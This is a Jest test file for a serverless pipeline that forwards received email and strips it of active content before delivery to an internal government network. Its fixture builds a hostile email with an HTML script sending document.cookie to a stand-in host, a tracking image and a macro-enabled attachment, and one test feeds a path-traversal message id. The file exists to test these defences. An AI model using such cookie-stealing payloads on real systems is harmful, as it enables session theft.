import * as vm from 'node:vm';
import { Readable } from 'node:stream';
import * as s3sdk from '@aws-sdk/client-s3';
import type { SQSEvent } from 'aws-lambda';
import { simpleParser } from 'mailparser';
import { BuiltinSanitizerEngine } from '../../../lib/sanitization/engine';
import { BuiltinSanitizerOptions } from '../../../lib/sanitization/options';
import { TransferAuditRecord } from '../../../lib/sanitization/handler/audit-record';
import { TransferProcessor } from '../../../lib/sanitization/handler/transfer-processor';
import { FORWARDER_ENV, FORWARDER_SOURCE } from '../../../lib/sanitization/mail/private/forwarder-source';
import { hostileDocm } from '../fixtures';
import { FakeS3 } from '../transfer/fake-s3';

const WRITER_ROLE = 'arn:aws:iam::666666666666:role/lgsec-transfer-writer-main';
const MESSAGE_ID = 'o3vrnil0e2ic28trm7dfhrc2v0clambda4nbp0g1';
const HTML_TEXT = '来週の会議資料を添付します。';

const base64Lines = (bytes: Uint8Array) =>
  (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');

/** A real message as SES stores it: an HTML body with a script and a tracking image, a macro document attached. */
function receivedMessage(docm: Uint8Array = hostileDocm()): Buffer {
  const html =
    `<html><head><script>location="http://evil.example/?c="+document.cookie</script></head>` +
    `<body><p>${HTML_TEXT}</p><img src="http://evil.example/t.gif"></body></html>`;
  return Buffer.from(
    [
      'Return-Path: <kikaku@example.jp>',
      'Received: from mail.example.jp by inbound-smtp.ap-northeast-1.amazonaws.com with SMTP id x; Tue, 24 Nov 2026 00:00:00 +0000',
      'From: "企画課" <kikaku@example.jp>',
      'To: jouhou@city.shiojiri.lg.jp',
      'Subject: =?UTF-8?B?' + Buffer.from('会議資料').toString('base64') + '?=',
      'Date: Tue, 24 Nov 2026 09:00:00 +0900',
      'Message-ID: <meeting-42@example.jp>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/html; charset=UTF-8',
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(Buffer.from(html, 'utf8')),
      '--b1',
      'Content-Type: application/vnd.ms-word.document.macroEnabled.12; name="shiryou.docm"',
      'Content-Disposition: attachment; filename="shiryou.docm"',
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(docm),
      '--b1--',
      '',
    ].join('\r\n'),
    'utf8',
  );
}

/** The SES event the receipt rule's Lambda action sends, after its S3 action stored the message. */
function sesEvent(messageId: string, virus = 'PASS') {
  return {
    Records: [
      {
        eventSource: 'aws:ses',
        ses: {
          mail: { messageId, destination: ['jouhou@city.shiojiri.lg.jp'] },
          receipt: {
            spamVerdict: { status: 'PASS' },
            virusVerdict: { status: virus },
            spfVerdict: { status: 'PASS' },
            dkimVerdict: { status: 'PASS' },
            dmarcVerdict: { status: 'PASS' },
          },
        },
      },
    ],
  };
}

/**
 * Runs the forwarder's inline source as Lambda would, with the AWS SDK replaced by the in-memory
 * S3 and an STS that hands out the writer role's credentials (recorded, to show who wrote).
 */
function loadForwarder(s3: FakeS3) {
  const writers: (string | undefined)[] = [];
  const assumed: string[] = [];
  class S3Client {
    private readonly who: string | undefined;
    constructor(config: { credentials?: { accessKeyId: string } }) {
      this.who = config.credentials?.accessKeyId;
    }
    async send(command: { input: unknown; constructor: { name: string } }) {
      if (command.constructor.name === 'PutObjectCommand') writers.push(this.who);
      const out = (await s3.client.send(command as never)) as { Body?: unknown };
      if (out.Body instanceof Readable) {
        const chunks: Buffer[] = [];
        for await (const chunk of out.Body) chunks.push(Buffer.from(chunk));
        const bytes = Buffer.concat(chunks);
        out.Body = { transformToByteArray: async () => new Uint8Array(bytes) };
      }
      return out;
    }
  }
  class STSClient {
    async send(command: { input: { RoleArn: string } }) {
      assumed.push(command.input.RoleArn);
      return { Credentials: { AccessKeyId: 'WRITER', SecretAccessKey: 's', SessionToken: 't' } };
    }
  }
  const modules: Record<string, unknown> = {
    '@aws-sdk/client-s3': { S3Client, GetObjectCommand: s3sdk.GetObjectCommand, PutObjectCommand: s3sdk.PutObjectCommand },
    '@aws-sdk/client-sts': {
      STSClient,
      AssumeRoleCommand: class AssumeRoleCommand {
        constructor(public readonly input: unknown) {}
      },
    },
  };
  const env = {
    [FORWARDER_ENV.landingBucket]: 'originals',
    [FORWARDER_ENV.landingPrefix]: 'incoming/',
    [FORWARDER_ENV.inboxBucket]: 'inbox',
    [FORWARDER_ENV.inboxPrefix]: 'mail/',
    [FORWARDER_ENV.writerRoleArn]: WRITER_ROLE,
  };
  const module = { exports: {} as { handler: (event: unknown) => Promise<{ messageId: string; action: string; inboxKey?: string }[]> } };
  const logs: string[] = [];
  vm.runInNewContext(FORWARDER_SOURCE, {
    require: (name: string) => modules[name],
    module,
    exports: module.exports,
    process: { env },
    Buffer,
    JSON,
    console: { log: (line: string) => logs.push(line) },
  });
  return { handler: module.exports.handler, writers, assumed, logs };
}

function inboxEvent(s3: FakeS3, key: string): SQSEvent {
  const version = s3.versions('inbox', key).at(-1)!;
  const body = JSON.stringify({
    Records: [
      {
        eventVersion: '2.1',
        eventSource: 'aws:s3',
        awsRegion: 'ap-northeast-1',
        eventTime: '2026-11-24T00:00:05.000Z',
        eventName: 'ObjectCreated:Put',
        s3: {
          bucket: { name: 'inbox', arn: 'arn:aws:s3:::inbox' },
          object: { key, size: version.bytes.length, versionId: version.versionId, eTag: 'etag', sequencer: '01' },
        },
      },
    ],
  });
  return {
    Records: [
      {
        messageId: 'sqs-1',
        receiptHandle: 'h',
        body,
        attributes: { ApproximateReceiveCount: '1', SentTimestamp: '0', SenderId: 's3', ApproximateFirstReceiveTimestamp: '0' },
        messageAttributes: {},
        md5OfBody: '',
        eventSource: 'aws:sqs',
        eventSourceARN: 'arn:aws:sqs:ap-northeast-1:555555555555:queue',
        awsRegion: 'ap-northeast-1',
      },
    ],
  };
}

async function sanitize(s3: FakeS3, key: string, options: BuiltinSanitizerOptions = {}) {
  const processor = new TransferProcessor({
    s3: s3.client,
    engine: new BuiltinSanitizerEngine(options),
    config: {
      inboxBucket: 'inbox',
      outboxBucket: 'outbox',
      quarantineBucket: 'quarantine',
      auditBucket: 'audit',
      maxObjectBytes: 10 * 1024 * 1024,
      maxReceiveCount: 3,
    },
    log: () => undefined,
    now: () => new Date('2026-11-24T00:00:06.000Z'),
  });
  return processor.handle(inboxEvent(s3, key), { awsRequestId: 'req-1', getRemainingTimeInMillis: () => 300_000 });
}

describe('the mail path: SES → originals → forwarder → sanitizing transfer → LGWAN outbox', () => {
  test('an HTML mail with a macro document comes out as text with the macro removed, and the audit record names both', async () => {
    const s3 = new FakeS3();
    const original = receivedMessage();
    s3.put('originals', `incoming/${MESSAGE_ID}`, original);
    const forwarder = loadForwarder(s3);

    const forwarded = await forwarder.handler(sesEvent(MESSAGE_ID));

    const inboxKey = `mail/${MESSAGE_ID}.eml`;
    expect(forwarded).toEqual([{ messageId: MESSAGE_ID, action: 'forwarded', inboxKey }]);
    expect(forwarder.assumed).toEqual([WRITER_ROLE]);
    expect(forwarder.writers).toEqual(['WRITER']);
    expect(s3.keys('inbox')).toEqual([inboxKey]);
    expect(s3.versions('inbox', inboxKey)[0].bytes.equals(original)).toBe(true);
    // The original stays in the internet zone as received.
    expect(s3.keys('originals')).toEqual([`incoming/${MESSAGE_ID}`]);

    const response = await sanitize(s3, inboxKey);
    expect(response.batchItemFailures).toEqual([]);

    const delivered = s3.only('outbox');
    expect(delivered.key).toMatch(new RegExp(`^mail/[0-9a-f]{32}/${MESSAGE_ID}\\.eml$`));
    const mail = await simpleParser(delivered.version.bytes);
    expect(mail.html).toBe(false);
    expect(mail.text).toContain(HTML_TEXT);
    expect(delivered.version.bytes.toString('latin1')).not.toMatch(/evil\.example|<script|text\/html/i);
    expect(mail.attachments.map((a) => a.filename)).toEqual(['shiryou.docx']);
    const attachment = mail.attachments[0].content;
    expect(attachment.includes(Buffer.from('vbaProject'))).toBe(false);
    expect(attachment.includes(Buffer.from('macroEnabled'))).toBe(false);

    const record = JSON.parse(s3.only('audit').version.bytes.toString('utf8')) as TransferAuditRecord;
    expect(record).toMatchObject({ verdict: 'sanitized', detectedType: 'eml', inbox: { key: inboxKey } });
    expect(record.delivered?.key).toBe(delivered.key);
    expect(record.actions).toEqual(
      expect.arrayContaining([expect.stringMatching(/removed HTML body/), expect.stringMatching(/sanitized attachment 'shiryou\.docm'/)]),
    );
    expect(s3.keys('inbox')).toEqual([]);
    expect(s3.keys('quarantine')).toEqual([]);
  });

  test("with emailAttachments 'remove', the message arrives as text alone and the record names the removed attachment", async () => {
    const s3 = new FakeS3();
    s3.put('originals', `incoming/${MESSAGE_ID}`, receivedMessage());
    await loadForwarder(s3).handler(sesEvent(MESSAGE_ID));

    await sanitize(s3, `mail/${MESSAGE_ID}.eml`, { emailAttachments: 'remove' });

    const mail = await simpleParser(s3.only('outbox').version.bytes);
    expect(mail.attachments).toEqual([]);
    expect(mail.text).toContain(HTML_TEXT);
    expect(mail.text).toContain("Attachment 'shiryou.docm' was removed");
    const record = JSON.parse(s3.only('audit').version.bytes.toString('utf8')) as TransferAuditRecord;
    expect(record.actions).toContain("removed attachment 'shiryou.docm' (attachment policy: remove)");
  });

  test('emailAttachments accepts sanitize and remove only', () => {
    expect(() => new BuiltinSanitizerEngine({ emailAttachments: 'strip' as never, isolation: 'none' })).toThrow(
      /emailAttachments must be one of sanitize, remove, got 'strip'/,
    );
  });

  test('a message the sanitizer cannot rebuild is quarantined, never delivered, and recorded', async () => {
    const s3 = new FakeS3();
    // Not a mail: no mail header at all, only a body.
    s3.put('originals', `incoming/${MESSAGE_ID}`, 'hello\r\n\r\nthis is not an e-mail\r\n');
    await loadForwarder(s3).handler(sesEvent(MESSAGE_ID));

    await sanitize(s3, `mail/${MESSAGE_ID}.eml`);

    expect(s3.keys('outbox')).toEqual([]);
    expect(s3.keys('quarantine')).toEqual([expect.stringMatching(new RegExp(`^mail/[0-9a-f]{32}/${MESSAGE_ID}\\.eml$`))]);
    const record = JSON.parse(s3.only('audit').version.bytes.toString('utf8')) as TransferAuditRecord;
    expect(record.verdict).toBe('quarantined');
    expect(record.delivered).toBeUndefined();
    expect(record.quarantined?.key).toBe(s3.keys('quarantine')[0]);
  });

  test.each(['FAIL', 'GRAY', 'PROCESSING_FAILED'])(
    'a message whose virus verdict is %s is held in the internet zone, never forwarded',
    async (verdict) => {
      const s3 = new FakeS3();
      s3.put('originals', `incoming/${MESSAGE_ID}`, receivedMessage());
      const forwarder = loadForwarder(s3);

      const result = await forwarder.handler(sesEvent(MESSAGE_ID, verdict));

      expect(result).toEqual([{ messageId: MESSAGE_ID, action: 'held' }]);
      expect(s3.keys('inbox')).toEqual([]);
      expect(forwarder.assumed).toEqual([]);
      expect(JSON.parse(forwarder.logs[0])).toMatchObject({ event: 'held', messageId: MESSAGE_ID, verdicts: { virus: verdict } });
    },
  );

  test('a message without a virus verdict (scanning off) is held too', async () => {
    const s3 = new FakeS3();
    s3.put('originals', `incoming/${MESSAGE_ID}`, receivedMessage());
    const event = sesEvent(MESSAGE_ID);
    delete (event.Records[0].ses.receipt as Partial<(typeof event.Records)[0]['ses']['receipt']>).virusVerdict;
    expect(await loadForwarder(s3).handler(event)).toEqual([{ messageId: MESSAGE_ID, action: 'held' }]);
    expect(s3.keys('inbox')).toEqual([]);
  });

  test('refuses a message id that could name another key', async () => {
    const s3 = new FakeS3();
    await expect(loadForwarder(s3).handler(sesEvent('../../outbox/x'))).rejects.toThrow(/unexpected SES message id/);
  });

  test('the inline source fits CloudFormation’s 4096-character limit', () => {
    expect(FORWARDER_SOURCE.length).toBeLessThanOrEqual(4096);
  });
});
